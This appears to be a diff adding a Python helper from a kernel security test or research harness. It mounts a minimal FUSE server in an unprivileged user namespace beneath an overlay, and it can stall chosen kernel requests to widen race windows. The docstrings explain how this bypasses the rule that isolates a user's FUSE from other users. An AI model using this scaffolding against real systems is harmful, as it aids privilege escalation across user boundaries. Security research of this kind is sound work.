@@ -1,0 +1,142 @@
+"""The smallest FUSE server that an attack needs: one folder with one program in it, and questions that stay unanswered.
+
+Whoever mounts it needs no privilege but a user namespace, and a device that he may open.
+"""
+
+import os
+import select
+import struct
+import tempfile
+import time
+
+import isolation
+
+_NODE_ROOT, _NODE_FILE = 1, 2
+_LOOKUP, _FORGET, _GETATTR, _SETATTR, _OPEN, _READ, _WRITE, _STATFS, _RELEASE = 1, 2, 3, 4, 14, 15, 16, 17, 18
+_FLUSH, _INIT, _OPENDIR, _READDIR, _RELEASEDIR, _BATCH_FORGET = 25, 26, 27, 28, 29, 42
+OPEN, GETATTR, WRITE = _OPEN, _GETATTR, _WRITE
+NAME = "program"
+
+
+def device():
+    """A node that every user may open, as /dev/fuse is on most machines; made as root."""
+    path = "/run/fuse"
+    os.mknod(path, 0o020666, os.makedev(10, 229))
+    os.chmod(path, 0o666)
+    return path
+
+
+def enter_user_namespace():
+    """Of this process's user, with a mount namespace of its own in which it is root. Once is enough."""
+    if os.getuid() == 0:
+        return
+    uid, gid = os.getuid(), os.getgid()
+    isolation.unshare(isolation.CLONE_NEWUSER | isolation.CLONE_NEWNS)
+    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
+        with open(f"/proc/self/{name}", "w") as file:
+            file.write(text)
+
+
+class FuseServer:
+    """Mounts itself, then answers in a process of its own. Once it is armed, the questions `silent` (opcodes) get their
+    answer only `silent_s` seconds after the first of them, so that no attack is for ever."""
+
+    def __init__(self, device_path, mount_point, content, silent=(), silent_s=4):
+        self._fd = os.open(device_path, os.O_RDWR)
+        self._content, self._silent, self._silent_s = content, set(silent), silent_s
+        self._armed, self.arm_fd = os.pipe()
+        self._silent_until = None
+        self._waiting = []
+        isolation.mount("fuse", mount_point, "fuse",
+                        options=f"fd={self._fd},rootmode=40000,user_id=0,group_id=0,allow_other")
+        if os.fork() == 0:
+            self._serve()
+        os.close(self._fd)
+
+    def arm(self):
+        """From now on it is silent."""
+        os.write(self.arm_fd, b"x")
+
+    def _serve(self):
+        while True:
+            left = 0.2 if self._waiting else None
+            readable, _, _ = select.select([self._fd, self._armed] if self._silent_until is None else [self._fd],
+                                           [], [], left)
+            if self._armed in readable:
+                self._silent_until = 0.0  # counts from the first question
+            if self._silent_until and time.monotonic() > self._silent_until:
+                self._waiting, waiting = [], self._waiting
+                for question in waiting:
+                    self._answer(*question)
+            if self._fd in readable:
+                try:
+                    self._ask(os.read(self._fd, 1 << 20))
+                except OSError:
+                    os._exit(0)  # unmounted
+
+    def _ask(self, message):
+        _, opcode, unique, node, *_ = struct.unpack_from("<IIQQIIII", message)
+        if self._silent_until is not None and opcode in self._silent:
+            if not self._silent_until:
+                self._silent_until = time.monotonic() + self._silent_s
+            if time.monotonic() < self._silent_until:
+                self._waiting.append((opcode, unique, node, message[40:]))
+                return
+        self._answer(opcode, unique, node, message[40:])
+
+    def _answer(self, opcode, unique, node, body):
+        if opcode in (_FORGET, _BATCH_FORGET):
+            return
+        result = self._result(opcode, node, body)
+        error, data = (result, b"") if isinstance(result, int) else (0, result)
+        try:
+            os.write(self._fd, struct.pack("<IiQ", 16 + len(data), error, unique) + data)
+        except OSError:
+            pass  # whoever asked has been killed
+
+    def _result(self, opcode, node, body):
+        if opcode == _INIT:
+            return struct.pack("<IIIIHHIIHHI7I", 7, 31, 65536, 0, 16, 12, 65536, 1, 16, 0, 0, *[0] * 7)
+        if opcode == _LOOKUP:
+            if body.rstrip(b"\0") != NAME.encode():
+                return -2  # ENOENT
+            return struct.pack("<QQQQII", _NODE_FILE, 0, 1000, 0, 0, 0) + self._attributes(_NODE_FILE)
+        if opcode in (_GETATTR, _SETATTR):  # attributes are not kept: each look asks again
+            return struct.pack("<QII", 0, 0, 0) + self._attributes(node)
+        if opcode in (_OPEN, _OPENDIR):
+            return struct.pack("<QII", 0, 0, 0)
+        if opcode == _READ:
+            _, offset, size = struct.unpack_from("<QQI", body)
+            return self._content[offset:offset + size]
+        if opcode == _WRITE:
+            return struct.pack("<II", struct.unpack_from("<QQI", body)[2], 0)
+        if opcode == _STATFS:
+            return struct.pack("<5Q4I6I", 0, 0, 0, 0, 0, 4096, 255, 4096, 0, *[0] * 6)
+        if opcode == _READDIR:
+            return b""
+        if opcode in (_RELEASE, _RELEASEDIR, _FLUSH):
+            return b""
+        return -38  # ENOSYS
+
+    def _attributes(self, node):
+        is_file = node == _NODE_FILE
+        size = len(self._content) if is_file else 4096
+        mode = 0o100777 if is_file else 0o040755
+        return struct.pack("<6Q10I", node, size, size // 512, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)
+
+
+def mount_overlay(node, silent, silent_s=4):
+    """As an ordinary user: an overlay whose lower folder is a FUSE of his. Gives the server and a program's path.
+
+    Overlays ask their layers with the rights of whoever has mounted them. So the kernel's rule that a user's FUSE is
+    never asked for another user's sake does not protect who opens, or only looks at, a file of such an overlay."""
+    enter_user_namespace()
+    folder = tempfile.mkdtemp()
+    isolation.mount("private", folder, "tmpfs")
+    for name in ("fuse", "empty", "merged"):
+        os.makedirs(f"{folder}/{name}")
+    with open("/bin/true", "rb") as file:
+        content = file.read()
+    server = FuseServer(node, f"{folder}/fuse", content, silent, silent_s)
+    isolation.mount("overlay", f"{folder}/merged", "overlay", options=f"lowerdir={folder}/fuse:{folder}/empty")
+    return server, f"{folder}/merged/{NAME}"
